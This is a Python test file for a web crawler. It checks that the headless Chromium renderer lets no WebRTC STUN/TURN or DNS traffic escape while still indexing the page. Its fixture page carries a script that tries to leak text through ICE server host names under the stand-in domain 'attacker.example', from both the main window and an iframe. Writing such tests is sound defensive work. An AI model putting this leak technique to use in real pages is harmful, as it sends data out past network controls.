"""The renderer's Chromium sends nothing the crawl did not decide (issue 37, items 1 and 14).

A crawled page's script tries every way out that `page.route` cannot see: WebRTC's STUN and
TURN (UDP to any address, and host names resolved through the system's resolver), the same
from a frame's window, a popup, a WebSocket, a preconnect. Loopback listeners stand where
those lead, and a DNS server stands where /etc/resolv.conf points (tests/formats/sealed.py):
none may see a packet, and the page must still be rendered and indexed.
"""

from __future__ import annotations

from pathlib import Path

from tests.formats.sealed import Listeners, need_namespaces, sealed_crawl
from webcrawler.index import open_searcher
from webcrawler.testing.server import LoopbackWeb, Page, Site

SITE, DNS, STUN = "127.0.74.1", "127.0.74.53", "127.0.74.2"

WEBRTC = Page(
    "<!DOCTYPE html><html><head><title>Calls</title></head><body><div id=\"root\"></div><script>"
    "function call(RTC, name) {"
    "  const pc = new RTC({iceServers: ["
    f"    {{urls: ['stun:{STUN}:3478', 'stun:' + name + '.attacker.example:3478']}},"
    f"    {{urls: ['turn:{STUN}:3478', 'turn:' + name + '-turn.attacker.example:3478',"
    f"             'turn:{STUN}:3478?transport=tcp'], username: 'u', credential: 'p'}}]}});"
    "  pc.createDataChannel('leak');"
    "  pc.createOffer().then(offer => pc.setLocalDescription(offer));"
    "}"
    "call(RTCPeerConnection, 'secret-text');"
    "const frame = document.createElement('iframe'); document.body.appendChild(frame);"
    "call(frame.contentWindow.RTCPeerConnection, 'frame-text');"
    "document.getElementById('root').innerHTML = '<p>the script wrote of walrus lanterns</p>';"
    "</script></body></html>")


def test_webrtc_and_dns_never_leave_the_browser(tmp_path: Path) -> None:
    need_namespaces()
    with Listeners(udp=((DNS, 53), (STUN, 3478)), tcp=((STUN, 3478),)) as listeners, \
            LoopbackWeb([Site(SITE, {"/": WEBRTC})]) as web:
        done = sealed_crawl(tmp_path, DNS, "--data-dir", str(tmp_path / "data"), "--seed",
                            web.url(SITE, "/"), "--render", "always", "--agents", "1",
                            "--delay", "0", "--no-progress", "--render-timeout", "6",
                            "--hours", "0.05")
        web.log.settle()
    assert done.returncode == 0, done.stderr
    assert listeners.seen == []  # no STUN, no TURN, no name looked up
    with open_searcher(tmp_path / "data" / "index") as searcher:
        assert [hit.url for hit in searcher.search("walrus lanterns").hits] == [web.url(SITE, "/")]
